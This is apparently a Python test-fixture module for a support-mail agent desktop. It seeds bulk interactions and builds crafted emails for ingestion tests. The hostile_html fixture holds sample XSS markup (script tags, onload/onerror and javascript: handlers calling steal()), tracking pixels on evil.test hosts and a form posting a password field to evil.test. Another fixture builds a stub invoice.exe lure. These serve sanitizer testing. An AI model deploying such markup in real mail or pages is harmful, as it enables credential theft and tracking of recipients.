"""Test data for the agent desktop: bulk interactions and hand-made hostile or odd mail."""

from __future__ import annotations

import base64
import datetime as dt
import uuid
from collections.abc import Sequence
from dataclasses import dataclass

from sqlalchemy import insert, select

from app.context import AppContext
from app.mail.ingest import FetchedMessage, load_account, write_batch
from app.mail.prepare import prepare_batch
from app.services.accounts import add_account, add_project
from storage.engine import Store, allocate_change_seqs
from storage.ids import new_id
from storage.models import (
    Agent,
    FolderState,
    Interaction,
    InteractionTag,
    Note,
    Queue,
    Tag,
    Ticket,
)

START = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
CUSTOMERS = ("Anna Rossi", "Bruno Keller", "Chloé Martin", "Dmitri Ivanov", "Eva Novak")


@dataclass(frozen=True)
class Seeded:
    account_id: uuid.UUID
    project_id: uuid.UUID
    queue_id: uuid.UUID | None


def make_account(store: Store, name: str = "support") -> Seeded:
    project = add_project(store, f"Acme {name}", name[:3].upper())
    info = add_account(
        store,
        name=name,
        email=f"{name}@acme.test",
        username=name,
        imap_host="imap.acme.test",
        project=project.name,
    )
    with store.connect() as conn:
        queue_id = conn.execute(
            select(Queue.id).where(Queue.project_id == project.id, Queue.is_default.is_(True))
        ).scalar()
        conn.execute(
            insert(FolderState).values(
                id=new_id(), account_id=info.id, folder="INBOX", uidvalidity=1, change_seq=0
            )
        )
    return Seeded(info.id, project.id, queue_id)


def seed_interactions(store: Store, count: int, *, batch: int = 20_000) -> Seeded:
    """``count`` interactions on one account with Core bulk inserts (no messages).

    Every seventh is claimed by an agent, every fifth has a ticket, every third a tag, one in
    four is read; last activity falls one minute apart, newest last.
    """
    seeded = make_account(store)
    with store.connect() as conn:
        agent_id, ticket_id, tag_id = new_id(), new_id(), new_id()
        seqs = allocate_change_seqs(conn, 3)
        conn.execute(insert(Agent).values(id=agent_id, change_seq=seqs[0], name="marta"))
        conn.execute(
            insert(Ticket).values(
                id=ticket_id, change_seq=seqs[1], project_id=seeded.project_id, number="T-0001"
            )
        )
        conn.execute(insert(Tag).values(id=tag_id, change_seq=seqs[2], name="vip"))
    for offset in range(0, count, batch):
        size = min(batch, count - offset)
        with store.connect() as conn:
            seqs = allocate_change_seqs(conn, size)
            rows = []
            tags = []
            for n, seq in zip(range(offset, offset + size), seqs, strict=True):
                interaction_id = new_id()
                customer = CUSTOMERS[n % len(CUSTOMERS)]
                rows.append(
                    {
                        "id": interaction_id,
                        "change_seq": seq,
                        "project_id": seeded.project_id,
                        "account_id": seeded.account_id,
                        "queue_id": seeded.queue_id,
                        "ticket_id": ticket_id if n % 5 == 0 else None,
                        "claimed_by_id": agent_id if n % 7 == 0 else None,
                        "subject": f"Order {n:07d} question",
                        "thread_subject": f"order {n:07d} question",
                        "customer_email": f"customer{n}@example.test",
                        "customer_name": customer,
                        "language": ("en", "it", "de")[n % 3],
                        "unread": n % 4 != 0,
                        "message_count": 1,
                        "created_at": START + dt.timedelta(minutes=n),
                        "last_activity_at": START + dt.timedelta(minutes=n),
                    }
                )
                if n % 3 == 0:
                    tags.append(
                        {"id": new_id(), "interaction_id": interaction_id, "tag_id": tag_id}
                    )
            conn.execute(insert(Interaction), rows)
            if tags:
                for row, seq in zip(tags, allocate_change_seqs(conn, len(tags)), strict=True):
                    row["change_seq"] = seq
                conn.execute(insert(InteractionTag), tags)
    return seeded


def ingest(ctx: AppContext, seeded: Seeded, raws: Sequence[bytes], first_uid: int = 1) -> None:
    """Store raw messages the way the fetcher does, without an IMAP server."""
    fetched = [FetchedMessage(uid=first_uid + i, raw=raw) for i, raw in enumerate(raws)]
    prepared = prepare_batch([(f.raw, f.uid) for f in fetched], False, str(ctx.blob_path))
    with ctx.store.connect() as conn:
        account = load_account(conn, seeded.account_id, 14)
        write_batch(conn, account, "INBOX", 1, fetched, prepared)


def add_note(store: Store, interaction_id: uuid.UUID, body: str) -> None:
    with store.write() as session:
        session.add(Note(interaction_id=interaction_id, body=body))


# --- hand-made mail ------------------------------------------------------------------------

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


def _headers(subject: str, message_id: str, sender: str = "Mallory <mallory@evil.test>") -> str:
    return (
        f"From: {sender}\r\nTo: support@acme.test\r\nSubject: {subject}\r\n"
        f"Date: Mon, 05 Jan 2026 10:00:00 +0000\r\nMessage-ID: <{message_id}>\r\n"
        "MIME-Version: 1.0\r\n"
    )


def hostile_html() -> bytes:
    body = (
        "<html><head><style>body{background:url(http://track.evil.test/bg.png)}</style>"
        "<script>alert('pwned')</script></head>"
        "<body onload=\"steal()\"><p onclick='x()' style='color:red'>Hello <b>agent</b></p>"
        "<img src='http://track.evil.test/pixel.gif' width=1 height=1>"
        '<img src="https://cdn.evil.test/logo.png" onerror="steal()">'
        '<a href="javascript:steal()">click</a>'
        "<form action='https://evil.test/post'><input name=password></form>"
        "<iframe src='https://evil.test/frame'></iframe>"
        "<div style=\"background-image:url('https://evil.test/x.png')\">styled</div>"
        "</body></html>"
    )
    return (
        _headers("Hostile HTML", "hostile@evil.test")
        + "Content-Type: text/html; charset=utf-8\r\n\r\n"
        + body
        + "\r\n"
    ).encode()


def cid_image() -> bytes:
    png = base64.b64encode(PNG).decode()
    return (
        _headers("Our logo", "cid@acme.test", "Anna <anna@example.test>")
        + 'Content-Type: multipart/related; boundary="REL"\r\n\r\n'
        "--REL\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
        '<p>See the logo: <img src="cid:logo@example.test" alt="logo"></p>\r\n'
        "--REL\r\nContent-Type: image/png; name=logo.png\r\nContent-Transfer-Encoding: base64\r\n"
        "Content-ID: <logo@example.test>\r\nContent-Disposition: inline; filename=logo.png\r\n\r\n"
        f"{png}\r\n--REL--\r\n"
    ).encode()


def dangerous_attachment() -> bytes:
    exe = base64.b64encode(b"MZ\x90\x00" + b"\x00" * 60).decode()
    return (
        _headers("Invoice", "exe@evil.test")
        + 'Content-Type: multipart/mixed; boundary="MIX"\r\n\r\n'
        "--MIX\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease open the invoice.\r\n"
        "--MIX\r\nContent-Type: application/octet-stream; name=invoice.exe\r\n"
        "Content-Transfer-Encoding: base64\r\n"
        "Content-Disposition: attachment; filename=invoice.exe\r\n\r\n"
        f"{exe}\r\n--MIX--\r\n"
    ).encode()


RUSSIAN = "Привет, где мой заказ?"


def mislabelled_charset() -> bytes:
    """cp1251 text labelled as latin-1: reads as mojibake until the agent forces cp1251."""
    return (
        (
            _headers("Zakaz", "cyr@example.test", "Ivan <ivan@example.test>")
            + "Content-Type: text/plain; charset=iso-8859-1\r\n"
            "Content-Transfer-Encoding: 8bit\r\n\r\n"
        ).encode()
        + RUSSIAN.encode("cp1251")
        + b"\r\n"
    )
